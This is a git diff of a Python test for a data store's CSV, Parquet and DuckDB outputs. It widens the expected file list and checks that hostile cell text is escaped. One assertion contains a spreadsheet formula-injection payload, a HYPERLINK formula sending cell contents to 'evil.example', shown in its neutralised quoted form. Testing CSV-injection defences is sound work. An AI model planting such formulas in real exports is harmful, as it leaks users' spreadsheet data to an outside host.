@@ -10,6 +10,7 @@ import pytest
 from store import Store, write_outputs
 from store.csv_safe import INERT_PREFIX, is_formula_like
 from store.parquet import read_parquet
+from store.review_sql import REVIEW_SCHEMAS
 from store.tables import ARROW_SCHEMAS, TABLES
 from tests.outputs.documents import corpus
 from tests.outputs.test_parallel_parts import write_parts_worker
@@ -55,7 +56,7 @@ def test_built_documents_with_hostile_text(tmp_path):
     out = tmp_path / "out"
     counts = run_twice(corpus(), out)
     assert sorted(p.name for p in out.iterdir()) == sorted(
-        [f"{t}.csv" for t in TABLES] + [f"{t}.parquet" for t in TABLES] + ["jospar.duckdb"])
+        [f"{t}.{kind}" for t in [*TABLES, *REVIEW_SCHEMAS] for kind in ("csv", "parquet")] + ["jospar.duckdb"])
     check_files_agree(out, counts)
     measures = read_csv(out / "measures.csv")
     assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Басу\")", "'+7 701 234 56 78", "'-5", "'@SUM(A1:A9)"} \
